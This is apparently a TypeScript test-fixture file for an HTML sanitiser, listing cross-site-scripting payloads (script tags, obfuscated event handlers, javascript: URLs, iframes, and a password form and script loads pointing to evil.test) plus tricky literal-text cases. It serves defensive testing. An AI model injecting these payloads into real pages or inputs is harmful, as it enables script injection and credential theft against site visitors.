/** Fragments that would act in the visitor's name, and text that only looks as if it did. */
import type { HostileCase } from '../hostile-case.ts';

/** Markup that acts: harmless to the page's shape, but never to come from a fragment that is not trusted. */
const acts: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script-source': '<script src="https://evil.test/x.js"></script>',
  'script-in-svg': '<svg><script>alert(1)</script></svg>',
  'script-in-template': '<template><script>alert(1)</script></template>',
  'script-in-math': '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  'script-split': '<scr<script>ipt>alert(1)</script>',
  handler: '<img src="x" onerror="alert(1)">',
  'handler-without-quotes': '<img src=x onerror=alert(1)>',
  'handler-after-slash': '<img/src=x/onerror=alert(1)>',
  'handler-in-capitals': '<IMG SRC=x ONERROR=alert(1)>',
  'handler-on-svg': '<svg onload="alert(1)"></svg>',
  'handler-on-custom-element': '<x-y onclick="alert(1)">x</x-y>',
  'javascript-url': '<a href="javascript:alert(1)">x</a>',
  'javascript-url-with-tab': '<a href="java\tscript:alert(1)">x</a>',
  'javascript-url-with-newline': '<a href="\njavascript:alert(1)">x</a>',
  'javascript-url-with-reference': '<a href="java&#115;cript:alert(1)">x</a>',
  'javascript-url-with-control': '<a href="\x01javascript:alert(1)">x</a>',
  'javascript-url-in-svg': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'javascript-url-in-animate': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
  'javascript-url-in-form': '<form action="javascript:alert(1)"><button>x</button></form>',
  'javascript-url-in-button': '<button formaction="javascript:alert(1)">x</button>',
  'vbscript-url': '<a href="vbscript:msgbox(1)">x</a>',
  'data-url': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  iframe: '<iframe src="https://evil.test/"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.test/"></object>',
  embed: '<embed src="https://evil.test/">',
  form: '<form action="https://evil.test/"><input name="password"></form>',
  'link-import': '<link rel="import" href="https://evil.test/">',
  'link-stylesheet': '<link rel="stylesheet" href="https://evil.test/x.css">',
};

const actingCases = Object.entries(acts).map(
  ([name, markup]): HostileCase => ({
    name: `acts-${name}`,
    shows: 'contained',
    fragment: { trust: 'sanitise' },
    behave: (exchange) => exchange.answer(markup),
  }),
);

/** Text that a careless composer takes for its own syntax. It has to come out letter for letter. */
const literal: Readonly<Record<string, string>> = {
  'replacement-patterns': "$& $` $' $1 $$ $<name>",
  'template-braces': '{name} {{name}} ${name} <%= name %> #{name}',
  'percent-escapes': '%3Cscript%3E %00 %0d%0a %s %n',
  backslashes: '\\u003cscript\\u003e \\0 \\\\',
  separators: 'line\u2028paragraph\u2029end',
  noncharacters: 'a\ufffeb\uffffc',
};

const literalCases = Object.entries(literal).map(
  ([name, text]): HostileCase => ({
    name: `text-${name}`,
    shows: 'content',
    text: `${text} {token}`,
    behave: (exchange) =>
      exchange.answer(`<p>${text.replaceAll('<', '&lt;').replaceAll('&l', '&l')} ${exchange.token}</p>`),
  }),
);

const textCases: readonly HostileCase[] = [
  ...literalCases,
  { name: 'text-without-elements', shows: 'content', behave: (exchange) => exchange.answer(exchange.token) },
  { name: 'text-bidi-override', shows: 'contained', behave: (exchange) => exchange.answer('<p>\u202e\u2067x</p>') },
  {
    name: 'text-combining-marks',
    shows: 'contained',
    behave: (exchange) => exchange.answer(`<p>x${'\u0301'.repeat(20_000)}</p>`),
  },
];

export const activeCases: readonly HostileCase[] = [...actingCases, ...textCases];
